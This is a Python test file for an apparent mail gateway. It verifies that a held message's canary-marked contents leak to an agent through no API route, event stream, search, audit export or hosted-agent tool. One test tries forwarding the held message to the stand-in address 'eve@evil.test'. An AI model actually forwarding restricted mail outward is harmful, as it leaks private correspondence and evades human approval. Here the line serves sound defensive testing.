"""What a held message says reaches no agent: every route is asked for it."""

import re
from dataclasses import replace

import pytest

from act.hosted import pieces
from doors.rest.scene import POLICY, Tenancy, calls, sequence, set_policy, write
from doors.rest.test_isolation import operations
from gatepost import act
from gatepost.access import Role
from gatepost.act import EventKind, hosted
from gatepost.act.hosted.paper import Call, Passed, Result, Speech
from gatepost.deliver.paper import Held
from gatepost.doors import rest
from gatepost.journey import House
from gatepost.record.paper import Json

CANARY = "nightingale"
HOLDING: dict[str, object] = {
    **POLICY,
    "senders": [{"match": {"address": "boss@boss.test"}, "action": "hold", "capabilities": []}],
    "onItsOwn": ["search_mail"],
}


class Ids(dict[str, object]):
    """What a path wants; any id that is not told is nobody's."""

    def __missing__(self, name: str) -> str:
        return "no_such"


@pytest.fixture
async def waiting(house: House, ours: Tenancy) -> Held:
    await set_policy(house, ours, POLICY)
    await write(house, ours, subject="An ordinary one")
    await set_policy(house, ours, HOLDING)
    done = await write(house, ours, subject=f"About the {CANARY}", text=f"The {CANARY} sings. Reply to {CANARY}.")
    assert isinstance(done.outcome, Held)
    await sequence(house, ours)
    return done.outcome


async def test_no_route_tells_an_agent_what_a_held_message_says(house: House, ours: Tenancy, waiting: Held) -> None:
    ids = Ids(
        hold_id=waiting.hold,
        mailbox_id=ours.account,
        message_id=waiting.email,
        thread_id="th_" + waiting.email.removeprefix("em_"),
        part=0,
        leaf_index=1,
        entry_id=1,
        tenant=ours.tenant,
        path="entries/000.p/2",
        code="scope.missing",
    )
    asked = 0
    async with calls(rest.build(house), ours.agent) as agent:
        for operation in operations():
            named = {name: ids.get(name, "x_none") for name in re.findall(r"{(\w+)}", operation.path)}
            answer = await operation.call(agent, named)
            asked += 1
            assert CANARY not in answer.text.lower(), f"{operation.verb} {operation.path}"
        found = await agent.get(f"/api/v1/mailboxes/{ours.account}/search", params={"q": CANARY})
        assert found.json()["items"] == []
    assert asked > 30
    async with calls(rest.build(house), ours.keys[Role.APPROVER]) as approver:
        shown = await approver.get(f"/api/v1/mailboxes/{ours.account}/holds/{waiting.hold}")
    assert CANARY in shown.json()["body_text"]  # the canary was there to be found


async def test_no_event_of_any_kind_says_what_a_held_message_says(house: House, ours: Tenancy) -> None:
    """Told of everything there is, page by page and as a stream; the hold itself is told."""
    base = f"/api/v1/mailboxes/{ours.account}/events"
    kinds = [kind.value for kind in act.CHOICES]
    await set_policy(house, ours, HOLDING)
    async with calls(rest.build(house), ours.agent) as agent:
        await agent.get(base)  # from now on there is a stream
        done = await write(house, ours, subject=f"About the {CANARY}", text=f"The {CANARY} sings.")
        await house.streams.place(house.db)
        page = await agent.get(base, params={"event": kinds, "cursor": 0})
        stream = await agent.get(f"{base}/stream", params={"event": kinds, "cursor": 0, "for_s": 0})
    for answer in (page, stream):
        assert CANARY not in answer.text.lower()
        assert EventKind.HELD in answer.text
        assert done.recorded.arrived.email in answer.text


@pytest.mark.parametrize(
    "words", [CANARY, f"subject:{CANARY}", "night*", "sings", '"the nightingale"', "from:boss.test"]
)
async def test_no_search_finds_a_held_message(house: House, ours: Tenancy, waiting: Held, words: str) -> None:
    async with calls(rest.build(house), ours.agent) as agent:
        found = await agent.get(f"/api/v1/mailboxes/{ours.account}/search", params={"q": words})
    assert waiting.email not in found.text
    assert CANARY not in found.text.lower()
    async with calls(rest.build(house), ours.keys[Role.AUDITOR]) as auditor:
        entries = await auditor.get("/api/v1/log/search", params={"q": CANARY})
        taken = await auditor.get("/api/v1/log/export")
    assert entries.json()["items"] == []
    assert CANARY not in taken.text.lower()


async def test_no_tool_of_a_hosted_agent_reads_a_held_message(house: House, ours: Tenancy, waiting: Held) -> None:
    async def say(speech: Speech | Passed) -> Result:
        raise AssertionError(speech)  # nothing of it may set out

    turn = replace(pieces.TURN, tenant=ours.tenant, account=ours.account, email=waiting.email)
    tools = [*hosted.kit(house.db, say), hosted.forward_tool(house.db, say)]
    asked: dict[str, dict[str, Json]] = {
        "search_mail": {"query": CANARY},
        "read_attachment": {"part": 1},
        "forward": {"to": ["eve@evil.test"], "note": ""},
        "handover": {"note": ""},
    }
    assert asked.keys() == {tool.name for tool in tools} - {"reply"}
    for tool in tools:
        if tool.name in asked:
            result = await tool.run(Call(turn=turn, arguments=asked[tool.name], key="k", at=house.clock()))
            assert CANARY not in str(result).lower()
